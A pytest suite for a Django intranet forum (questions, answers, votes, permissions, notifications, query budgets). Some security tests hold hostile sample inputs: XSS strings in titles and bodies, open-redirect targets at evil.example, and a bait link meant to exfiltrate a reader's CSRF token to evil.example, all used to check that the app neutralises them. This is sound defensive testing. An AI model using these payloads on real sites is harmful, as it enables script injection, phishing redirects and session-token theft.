"""Forums over HTTP: asking, answering, votes, accepting, editing with history; who may do
what where; bad input; what a page costs."""

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from forums import services
from forums.models import Answer, Revision, Topic, Vote
from intranet.activity.models import Activity, Comment, Notification
from profiles import selectors as people
from tests.factories import MembershipFactory, SpaceFactory, UserFactory

pytestmark = pytest.mark.django_db
EN = {"HTTP_ACCEPT_LANGUAGE": "en"}


def ask_form(**values):
    data = {"kind": "question", "title": "Hoe boek ik btw op export?", "body": "", "tags": ""}
    data.update(language="nl", **values)
    return data


@pytest.fixture
def space():
    return SpaceFactory(name="Financiën", slug="financien")


@pytest.fixture
def asker(client, space):
    person = MembershipFactory(space=space, user=UserFactory(language="en")).user
    client.force_login(person)
    return person


def a_question(space, asker, **values):
    return services.ask(
        author=asker, space=space, kind="question", title="Hoe boek ik btw op export?", **values
    )


def test_ask_answer_vote_accept_over_http(client, space, asker, captured_events):
    response = client.post(
        reverse("forums:ask", args=[space.slug]),
        ask_form(body="Voor klanten **buiten** de EU", tags="btw, export"),
    )
    topic = Topic.objects.get()
    assert response.status_code == 302 and response["Location"] == topic.get_absolute_url()
    assert "<strong>buiten</strong>" in topic.body_html
    assert sorted(topic.tags.values_list("name", flat=True)) == ["btw", "export"]
    assert Activity.objects.filter(verb="question.asked", target_id=topic.pk).exists()
    expert = MembershipFactory(space=space).user
    client.force_login(expert)
    with captured_events() as seen:
        client.post(topic.get_absolute_url(), {"body": "Tarief 0%, met bewijs van uitvoer."})
    answer = Answer.objects.get()
    # Forums publish one event; what follows it elsewhere (a first badge) is not theirs.
    assert [e["type"] for e in seen if e["type"] != "BadgeEarned"] == ["AnswerPosted"]
    assert Notification.objects.get(recipient=asker).kind == "answer"
    topic.refresh_from_db()
    assert topic.answer_count == 1
    # Votes: the asker votes up; the author cannot vote on their own answer.
    client.force_login(asker)
    client.post(reverse("forums:vote", args=[answer.pk]), {"value": "1"})
    client.force_login(expert)
    response = client.post(
        reverse("forums:vote", args=[answer.pk]), {"value": "1"}, HTTP_HX_REQUEST="true", **EN
    )
    assert response["X-Plein-Refused"] == "1"
    assert "You cannot vote on your own answer." in response.content.decode()
    answer.refresh_from_db()
    assert answer.score == 1
    # The asker accepts; the answerer hears it and it counts as expertise on the tags.
    client.force_login(asker)
    with captured_events() as seen:
        client.post(reverse("forums:accept", args=[topic.pk]), {"answer": answer.pk})
    assert seen[0]["type"] == "AnswerAccepted" and seen[0]["tags"] == ["btw", "export"]
    topic.refresh_from_db()
    assert topic.accepted_answer == answer
    assert Notification.objects.exclude(kind="badge").get(recipient=expert).kind == "accepted"
    from django.utils import translation

    with translation.override("en"):
        found = people.experts(viewer=asker, topic="btw", topic_name="btw")
    assert found[0].person == expert
    assert found[0].reasons[0] == "1 accepted answer on btw (such as “Hoe boek ik btw op export?”)"
    page = client.get(topic.get_absolute_url(), **EN).content.decode()
    assert "Accepted answer" in page and "Tarief 0%" in page
    home = client.get(reverse("home"), **EN).content.decode()
    assert "Hoe boek ik btw op export?" in home and "asked in" in home


def test_votes_one_per_person_changeable_and_taken_back(space, asker):
    topic = a_question(space, asker)
    answer = services.answer(author=MembershipFactory(space=space).user, topic=topic, body="Ja")
    voter = MembershipFactory(space=space).user
    assert services.vote(user=voter, answer_id=answer.pk, value=1).score == 1
    assert services.vote(user=voter, answer_id=answer.pk, value=1).score == 1  # still one vote
    assert services.vote(user=voter, answer_id=answer.pk, value=-1).score == -1
    assert services.vote(user=voter, answer_id=answer.pk, value=0).score == 0
    assert not Vote.objects.exists()
    from django.utils import translation

    with translation.override("en"), pytest.raises(Exception, match="Vote up, down"):
        services.vote(user=voter, answer_id=answer.pk, value=5)


def test_accepting_is_for_the_asker_or_a_moderator_and_for_this_questions_answers(
    client, space, asker
):
    topic = a_question(space, asker)
    other = a_question(space, asker)
    member = MembershipFactory(space=space).user
    answer = services.answer(author=member, topic=topic, body="Zo")
    elsewhere = services.answer(author=member, topic=other, body="Anders")
    client.force_login(member)
    response = client.post(reverse("forums:accept", args=[topic.pk]), {"answer": answer.pk})
    assert response.status_code == 404
    client.force_login(asker)
    response = client.post(
        reverse("forums:accept", args=[topic.pk]), {"answer": elsewhere.pk}, follow=True, **EN
    )
    assert "This answer belongs to another question." in response.content.decode()
    topic.refresh_from_db()
    assert topic.accepted_answer is None
    moderator = MembershipFactory(space=space, role="moderator").user
    client.force_login(moderator)
    client.post(reverse("forums:accept", args=[topic.pk]), {"answer": answer.pk})
    topic.refresh_from_db()
    assert topic.accepted_answer == answer


# Who may ask, answer, comment and moderate, by space role and visibility (as a person reads
# the defaults).
CELLS = [
    # (visibility, role or None, may see, may ask, may answer and comment, may moderate)
    ("open", "owner", True, True, True, True),
    ("open", "moderator", True, True, True, True),
    ("open", "member", True, True, True, False),
    ("open", "reader", True, False, False, False),
    ("open", None, True, False, False, False),
    ("private", "moderator", True, True, True, True),
    ("private", "member", True, True, True, False),
    ("private", "reader", True, False, False, False),
    ("private", None, False, False, False, False),
    ("secret", "moderator", True, True, True, True),
    ("secret", "member", True, True, True, False),
    ("secret", None, False, False, False, False),
]


@pytest.mark.parametrize(("visibility", "role", "sees", "asks", "answers", "moderates"), CELLS)
def test_permission_cells_for_asking_answering_commenting_and_moderating(
    client, visibility, role, sees, asks, answers, moderates
):
    space = SpaceFactory(visibility=visibility, closed_reason="x" if visibility != "open" else "")
    owner = MembershipFactory(space=space, role="owner").user
    topic = a_question(space, owner)
    person = UserFactory()
    if role:
        MembershipFactory(space=space, user=person, role=role)
    client.force_login(person)
    assert client.get(topic.get_absolute_url()).status_code == (200 if sees else 404)
    assert client.get(reverse("forums:space", args=[space.slug])).status_code == (
        200 if sees else 404
    )
    response = client.post(reverse("forums:ask", args=[space.slug]), ask_form())
    assert response.status_code == (302 if asks else 404)
    response = client.post(topic.get_absolute_url(), {"body": "Mijn antwoord"})
    assert response.status_code == (302 if answers else 404)
    assert Answer.objects.filter(author=person).exists() == answers
    response = client.post(reverse("forums:comment", args=[topic.pk]), {"body": "Goede vraag"})
    assert response.status_code == (302 if answers else 404)
    assert Comment.objects.filter(author=person).exists() == answers
    response = client.post(reverse("forums:moderate", args=[topic.pk]), {"action": "lock"})
    assert response.status_code == (302 if moderates else 404)
    topic.refresh_from_db()
    assert topic.locked == moderates
    queue = client.get(reverse("moderation:space", args=[space.slug]))
    assert queue.status_code == (200 if moderates else 404)


def test_guests_see_forums_only_in_their_own_spaces(client):
    guest = UserFactory(org_role="guest")
    mine, other = SpaceFactory(), SpaceFactory()
    MembershipFactory(space=mine, user=guest)
    owner = MembershipFactory(space=mine, role="owner").user
    MembershipFactory(space=other, user=owner)
    client.force_login(guest)
    assert client.get(a_question(mine, owner).get_absolute_url()).status_code == 200
    assert client.get(a_question(other, owner).get_absolute_url()).status_code == 404


def test_bad_input_is_refused_clearly_and_nothing_is_saved(client, space, asker):
    url = reverse("forums:ask", args=[space.slug])
    cases = [
        (ask_form(title=""), "Give it a title of at least 5 characters."),
        (ask_form(body="x" * 1_000_000), "Keep it under 20,000 characters."),
        (ask_form(tags="btw, <script>"), "is not a tag"),
        (ask_form(tags="a,b,c,d,e,f"), "Use at most 5 tags."),
        (ask_form(kind="poll"), "Choose a question or a discussion."),
    ]
    for data, message in cases:
        response = client.post(url, data, **EN)
        assert response.status_code == 400, message
        assert message in response.content.decode()
    assert not Topic.objects.exists()
    topic = a_question(space, asker)
    topic.locked = True
    topic.save(update_fields=["locked"])
    response = client.post(topic.get_absolute_url(), {"body": "Nog één ding"}, **EN)
    assert response.status_code == 400
    assert "This topic is locked: no new answers." in response.content.decode()
    assert not Answer.objects.exists()
    response = client.post(
        reverse("forums:vote", args=[999999]), {"value": "1"}
    )  # a post that does not exist (or is out of sight)
    assert response.status_code == 404


def test_script_in_title_body_and_tags_stays_inert(client, space, asker):
    topic = a_question(space, asker, body="<script>alert(1)</script> <img src=x onerror=alert(2)>")
    topic.title = "<script>alert('titel')</script>"
    topic.save(update_fields=["title"])
    page = client.get(topic.get_absolute_url()).content.decode()
    assert "<script>alert" not in page and "<img src=x" not in page
    assert "&lt;script&gt;alert(&#x27;titel&#x27;)" in page


def test_edits_keep_the_previous_version_in_the_history(client, space, asker):
    topic = a_question(space, asker, body="Eerste versie")
    response = client.post(
        reverse("forums:edit", args=[topic.pk]),
        ask_form(title="Hoe boek ik btw bij export?", body="Tweede versie", tags="btw"),
    )
    assert response.status_code == 302
    revision = Revision.objects.get(topic=topic)
    assert revision.body == "Eerste versie" and revision.editor == asker
    history = client.get(reverse("forums:history", args=[topic.pk])).content.decode()
    assert "Eerste versie" in history
    client.force_login(MembershipFactory(space=space).user)
    assert client.get(reverse("forums:edit", args=[topic.pk])).status_code == 404


@pytest.mark.parametrize("answers", [5, 500])
def test_question_page_and_topic_list_cost_the_same_queries(
    client, space, asker, query_budget, answers
):
    topic = a_question(space, asker, tags="btw")
    people_ = [MembershipFactory(space=space).user for _ in range(5)]
    Answer.objects.bulk_create(
        Answer(topic=topic, author=people_[i % 5], body="x", body_html="<p>x</p>")
        for i in range(answers)
    )
    # Comments under every answer: still the same queries.
    from django.contrib.contenttypes.models import ContentType

    answer_type = ContentType.objects.get_for_model(Answer)
    Comment.objects.bulk_create(
        Comment(content_type=answer_type, object_id=a.pk, author=asker, body="c",
                body_html="<p>c</p>")
        for a in Answer.objects.filter(topic=topic)
    )  # fmt: skip
    # The topic list too: 10 topics on the small side, 60 (two pages) on the large one.
    for _ in range(10 if answers == 5 else 60):
        a_question(space, asker, tags="btw, export")
    # 18: the top bar asks once whether one may announce (managers and delegates too), and
    # the rail once whether the leadership's Q&A is readable (both then kept; issue 22).
    with query_budget(18):
        response = client.get(topic.get_absolute_url())
    assert response.content.decode().count('class="card answer') == answers
    with CaptureQueriesContext(connection) as queries:
        assert client.get(reverse("forums:space", args=[space.slug])).status_code == 200
    assert len(queries) <= 18


def test_before_you_ask_suggests_near_duplicates_only_where_you_may_read(client, space, asker):
    def q(title, language="nl", where=space, **extra):
        return services.ask(
            author=asker, space=where, kind="question", title=title, language=language, **extra
        )

    invoice = q("Waar vind ik de factuur van mijn laptop?")
    plural = q("Hoe keur ik facturen goed in Exact?")
    english = q("How do I approve invoices?", language="en")
    q("Wanneer is de kantine open?")
    secret = SpaceFactory(visibility="secret", closed_reason="x")
    owner = MembershipFactory(space=secret, role="owner").user
    services.ask(author=owner, space=secret, kind="question", title="Facturen van de reorganisatie")

    def titles(text):
        response = client.get(reverse("forums:similar"), {"title": text}, HTTP_HX_REQUEST="true")
        assert response.status_code == 200
        found = [t.title for t in selectors.similar_questions(user=asker, title=text)]
        for title in found:
            assert title in response.content.decode()
        return found

    from forums import selectors

    # Dutch stemming: the plural finds the singular and back; never the secret space's topic.
    assert set(titles("facturen")) >= {invoice.title, plural.title}
    assert titles("factuur exact") == [plural.title]  # singular finds the plural, every word
    assert "Facturen van de reorganisatie" not in titles("facturen")
    assert titles("factuur laptop")[0] == invoice.title
    assert english.title in titles("approve invoice")
    assert titles("kantien open")[0] == "Wanneer is de kantine open?"  # a typo, by trigrams
    assert titles("xy") == []
    api = client.get("/api/search/", {"q": "facturen"}).json()
    assert any(g["kind"] == "topics" for g in api)


def test_unanswered_queue_suggests_experts_and_asks_them(
    client, space, asker, django_capture_on_commit_callbacks, query_budget
):
    from profiles import services as profiles

    expert = MembershipFactory(space=space, user=UserFactory(first_name="Sanne")).user
    profiles.update_profile(actor=expert, person=expert, data={"skills": ["btw"]})
    stranger = UserFactory(first_name="Piet")  # knows btw but cannot see a private space
    profiles.update_profile(actor=stranger, person=stranger, data={"skills": ["btw"]})
    waiting = [a_question(space, asker, tags="btw") for _ in range(3)]
    answered = a_question(space, asker, tags="btw")
    services.answer(author=expert, topic=answered, body="Ja")
    client.force_login(expert)
    page = client.get(reverse("forums:unanswered"), **EN).content.decode()
    assert page.count('class="card unanswered"') == 3  # asked by someone else, still open
    client.force_login(asker)
    with query_budget(16):
        page = client.get(reverse("forums:unanswered"), **EN).content.decode()
    assert "Ask Sanne to answer" in page
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("forums:request_answer", args=[waiting[0].pk]), {"person": expert.pk}
        )
    assert response.status_code == 302
    request = Notification.objects.get(recipient=expert, kind="answer_request")
    assert request.params["title"] == waiting[0].title
    # Someone who cannot see the space, or oneself: refused with a message.
    space.visibility, space.closed_reason = "private", "x"
    space.save(update_fields=["visibility", "closed_reason"])
    response = client.post(
        reverse("forums:request_answer", args=[waiting[0].pk]),
        {"person": stranger.pk},
        follow=True,
        **EN,
    )
    assert "This colleague cannot see this space." in response.content.decode()
    response = client.post(
        reverse("forums:request_answer", args=[waiting[0].pk]),
        {"person": asker.pk},
        follow=True,
        **EN,
    )
    assert "Ask someone else." in response.content.decode()
    assert not Notification.objects.filter(recipient=stranger).exists()


def test_mentions_and_followers_hear_about_new_answers(
    client, space, asker, django_capture_on_commit_callbacks
):
    from forums.models import Tag

    topic_fan = MembershipFactory(space=space).user
    tag_fan = MembershipFactory(space=space).user
    outsider_fan = UserFactory()  # follows the tag but cannot read this private space
    space.visibility, space.closed_reason = "private", "x"
    space.save(update_fields=["visibility", "closed_reason"])
    named = MembershipFactory(space=space, user=UserFactory(email="noor.peters@plein.example"))
    UserFactory(email="kees.buiten@plein.example")  # mentioned, but outside the space
    topic = a_question(space, asker, tags="btw")
    services.follow_topic(user=topic_fan, topic=topic)
    services.follow_tag(user=tag_fan, tag_slug="btw")
    services.follow_tag(user=outsider_fan, tag_slug="btw")
    answerer = MembershipFactory(space=space).user
    with django_capture_on_commit_callbacks(execute=True):
        services.answer(
            author=answerer, topic=topic, body="Vraag het @noor.peters en @kees.buiten ook even"
        )
    # (A first answer also earns its author a badge: that notification is not about this.)
    kinds = dict(Notification.objects.exclude(kind="badge").values_list("recipient_id", "kind"))
    assert kinds[asker.pk] == "answer"
    assert kinds[named.user.pk] == "mention"
    assert kinds[topic_fan.pk] == "followed" and kinds[tag_fan.pk] == "followed"
    assert outsider_fan.pk not in kinds and answerer.pk not in kinds
    assert not Notification.objects.filter(recipient__email="kees.buiten@plein.example").exists()
    # Over HTTP: follow and stop following a topic; a tag nobody used yet may be followed too
    # (the answer never tells which tags exist); a malformed one answers 404.
    client.force_login(topic_fan)
    client.post(reverse("forums:follow", args=[topic.pk]), {"action": "unfollow"})
    assert not topic.followers.filter(user=topic_fan).exists()
    assert client.post(reverse("forums:follow_tag", args=["onbekend"])).status_code == 302
    assert client.post(reverse("forums:follow_tag", args=["Geen Tag!"])).status_code == 404
    assert Tag.objects.get(slug="btw").followers.count() == 2


def test_the_demo_has_answered_and_unanswered_questions_in_both_languages():
    from django.core.management import call_command

    call_command("seed_demo")
    topics = Topic.objects.all()
    assert topics.filter(accepted_answer__isnull=False).count() >= 4
    assert topics.filter(kind="question", answer_count=0).count() >= 3
    assert topics.filter(kind="discussion").exists() and topics.filter(language="en").exists()
    assert Vote.objects.exists()
    call_command("seed_demo")  # a second run adds nothing
    assert Topic.objects.count() == topics.count()


def test_outsiders_get_404_on_every_forum_page_and_action(client, space, asker):
    space.visibility, space.closed_reason = "private", "x"
    space.save(update_fields=["visibility", "closed_reason"])
    topic = a_question(space, asker, tags="btw")
    answer = services.answer(author=MembershipFactory(space=space).user, topic=topic, body="Ja")
    client.force_login(UserFactory())
    for url in (
        reverse("forums:history", args=[topic.pk]),
        reverse("forums:edit", args=[topic.pk]),
        reverse("forums:space", args=[space.slug]),
        reverse("forums:ask", args=[space.slug]),
    ):
        assert client.get(url).status_code == 404, url
    for url, data in (
        (reverse("forums:follow", args=[topic.pk]), {}),
        (reverse("forums:request_answer", args=[topic.pk]), {"person": asker.pk}),
        (reverse("forums:accept", args=[topic.pk]), {"answer": answer.pk}),
        (reverse("forums:vote", args=[answer.pk]), {"value": "1"}),
    ):
        assert client.post(url, data).status_code == 404, url
    assert not Vote.objects.exists() and not topic.followers.exclude(user=asker).exists()
    guest = UserFactory(org_role="guest")
    client.force_login(guest)
    assert client.get(reverse("forums:unanswered")).status_code == 404
    assert client.get("/api/topics/unanswered/").status_code == 404


def test_shared_answers_are_made_personal_for_each_reader(space, asker):
    """The answers block is rendered once and shared: each reader still gets their own CSRF
    token (forms work), their own votes, and no report link under their own posts."""
    import re

    from django.test import Client

    topic = a_question(space, asker)
    answerer = MembershipFactory(space=space).user
    reader = MembershipFactory(space=space).user
    answer = services.answer(author=answerer, topic=topic, body="Nultarief")
    services.vote(user=reader, answer_id=answer.pk, value=1)
    report_link = f"report/?kind=forums.answer&amp;object_id={answer.pk}&amp;next="
    delete_link = f"delete/?kind=forums.answer&amp;object_id={answer.pk}&amp;next="
    pages = {}
    for person in (asker, answerer, reader):
        client = Client(enforce_csrf_checks=True)
        client.force_login(person)
        page = client.get(topic.get_absolute_url()).content.decode()
        assert "__plein_csrf__" not in page
        pages[person] = page
        # The token in the page is this reader's: posting a vote with it works.
        token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page).group(1)
        if person != answerer:
            response = client.post(
                reverse("forums:vote", args=[answer.pk]),
                {"value": "-1", "csrfmiddlewaretoken": token},
            )
            assert response.status_code == 302, person
            services.vote(user=person, answer_id=answer.pk, value=1 if person == reader else 0)
    assert 'class="vote vote--on"' in pages[reader]
    assert "vote--on" not in pages[asker] and "vote--on" not in pages[answerer]
    assert report_link in pages[reader] and report_link in pages[asker]
    assert report_link not in pages[answerer]
    assert delete_link in pages[answerer]
    assert delete_link not in pages[asker] and delete_link not in pages[reader]


def test_next_addresses_elsewhere_are_ignored_after_a_form(
    client, space, asker, django_capture_on_commit_callbacks
):
    """ "next" sends one back to a page on this site, never to another site."""
    topic = a_question(space, asker, tags="btw")
    follow = reverse("forums:follow_tag", args=["btw"])
    response = client.post(follow, {"next": "https://evil.example/phish"})
    assert response["Location"] == reverse("forums:unanswered")
    response = client.post(follow, {"next": topic.get_absolute_url(), "action": "unfollow"})
    assert response["Location"] == topic.get_absolute_url()
    expert = MembershipFactory(space=space).user
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("forums:request_answer", args=[topic.pk]),
            {"person": expert.pk, "next": "//evil.example/"},
        )
    assert response["Location"] == topic.get_absolute_url()
    assert Notification.objects.filter(recipient=expert, kind="answer_request").exists()


def test_a_planted_csrf_placeholder_never_carries_a_readers_token(space, asker):
    """The shared answers block stands in for each reader's CSRF token: text in an answer or a
    comment that spells the stand-in (the old fixed one or anything like it) stays text, and
    no reader's token is written into someone's link."""
    import re

    from django.test import Client

    topic = a_question(space, asker)
    planter = MembershipFactory(space=space).user
    reader = MembershipFactory(space=space).user
    bait = "[mijn bron](https://evil.example/steal?t=__plein_csrf__) __plein_csrf__"
    answer = services.answer(author=planter, topic=topic, body=bait)
    services.comment(author=planter, topic=topic, body=bait)
    services.comment(author=planter, topic=topic, body=bait, answer_id=answer.pk)
    client = Client(enforce_csrf_checks=True)
    client.force_login(reader)
    for _ in range(2):  # rendered for the block, then served from the cache
        page = client.get(topic.get_absolute_url()).content.decode()
        token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page).group(1)
        assert "__plein_csrf__" in page  # the text as written, shown as text
        fields = page.count(f'name="csrfmiddlewaretoken" value="{token}"')
        assert fields >= 1
        # The token only in form fields and the page's htmx header, never in a link or text.
        assert page.count(token) == fields + page.count(f'"X-CSRFToken": "{token}"')
        assert not re.search(rf"href=\"[^\"]*{re.escape(token)}", page)
    voted = client.post(
        reverse("forums:vote", args=[answer.pk]), {"value": "1", "csrfmiddlewaretoken": token}
    )
    assert voted.status_code == 302
